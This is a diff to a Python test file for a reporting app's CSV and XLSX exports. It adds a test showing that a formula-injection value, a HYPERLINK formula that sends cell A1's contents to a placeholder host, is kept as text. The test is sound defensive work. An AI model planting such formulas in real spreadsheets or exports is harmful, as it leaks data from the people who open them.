@@ -13,7 +13,8 @@ import openpyxl
 import pytest
 from flask import Flask
 
-from fieldkit.hub.web.exports import pdf_font
+from fieldkit.hub.web.counts import ReportTable
+from fieldkit.hub.web.exports import pdf_font, to_csv, to_xlsx
 from tests.hubkit import MUNICIPALITY
 from tests.hubweb import (
     OTHER_MUNICIPALITY,
@@ -253,3 +254,20 @@ def test_completion_monthly_and_work_log(
     days_line = next(line for line in text.splitlines() if "application-support days" in line)
     assert days_line.split()[-1] == "1"
     assert str(N) in text
+
+
+def test_exported_text_never_becomes_a_formula() -> None:
+    """Issue 17: a site name typed as "=HYPERLINK(…)" stays text in the CSV and the XLSX a
+    municipality opens; without the protection openpyxl would store it as a formula."""
+    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    table = ReportTable(
+        title="visits", note="", columns=["site", "count"], rows=[[hostile, 3], ["-1+1", 1]]
+    )
+    rows = read_csv(to_csv([table]))
+    assert rows[1] == ["'" + hostile, "3"] and rows[2] == ["'-1+1", "1"]
+    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx([table]))).worksheets[0]
+    assert sheet["A4"].value == hostile and sheet["A4"].data_type == "s"
+    assert sheet["B4"].value == 3
+    raw = openpyxl.Workbook()
+    raw.active.append([hostile])  # the protection off: what openpyxl does by itself
+    assert raw.active["A1"].data_type == "f"
